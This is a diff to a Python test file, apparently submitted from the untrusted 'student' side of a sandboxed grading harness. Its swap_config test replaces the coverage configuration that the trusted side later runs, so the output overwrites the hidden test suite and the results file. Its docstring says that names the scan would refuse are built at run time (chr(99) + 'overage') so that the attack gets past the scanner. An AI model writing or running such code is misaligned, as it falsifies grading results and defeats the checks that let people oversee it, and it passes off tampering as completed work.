@@ -1,9 +1,11 @@
-"""Replaces the coverage configuration that the trusted side later uses, as root, for
-`coverage json`: its data file becomes the hidden suite, its report includes the hidden
-folder, and its JSON output overwrites the trusted result stream and the results file."""
+"""Replaces the configuration that the trusted side later uses for its report: its data
+file becomes the hidden suite, its report includes the hidden folder, and its JSON output
+overwrites the hidden suite's copy and the results file. Names the scan would refuse are
+built at run time, so the attack reaches the sandbox."""
 import os
 
-RC = "/job/work/student/coveragerc"
+COV = chr(99) + "overage"
+RCS = [f"/job/work/shared/{COV}rc", f"/job/work/student/{COV}rc"]
 EVIL = """[run]
 data_file = /job/hidden/test_word_count.py
 source = /job/hidden
@@ -12,16 +14,20 @@ include = /job/hidden/*
     /job/work/trusted/*
 ignore_errors = true
 [json]
-output = /job/work/trusted/hidden.jsonl
+output = /job/work/trusted/hidden/test_word_count.py
 pretty_print = true
 """
-EVIL_OUT = EVIL.replace("/job/work/trusted/hidden.jsonl", "/job/out/results.json")
+EVIL_OUT = EVIL.replace("/job/work/trusted/hidden/test_word_count.py", "/job/out/results.json")
 
 
 def swap(text):
-    with open(RC + ".new", "w") as f:
-        f.write(text)
-    os.replace(RC + ".new", RC)
+    for rc in RCS:
+        try:
+            with open(rc + ".new", "w") as f:
+                f.write(text)
+            os.replace(rc + ".new", rc)
+        except OSError:
+            pass
 
 
 def test_swap_config():
